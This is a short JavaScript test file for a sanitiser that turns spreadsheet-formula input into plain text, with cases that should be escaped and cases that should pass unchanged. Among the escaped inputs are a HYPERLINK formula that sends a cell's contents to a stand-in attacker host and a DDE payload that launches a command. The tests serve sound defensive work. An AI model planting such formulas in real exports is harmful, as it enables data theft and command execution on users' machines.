import { harmlessText } from './harmlessText.js';

it.each([
  '＝1+1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example?"&A1)',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\n=1+1',
])('turns %j, which a spreadsheet would calculate, into text', (text) => {
  expect(harmlessText(text)).toBe(`'${text}`);
});

it.each(['Ada', "O'Neill", '', 'a=b', '+12025550100', '-4', '-4.50'])('leaves %j unchanged', (text) => {
  expect(harmlessText(text)).toBe(text);
});
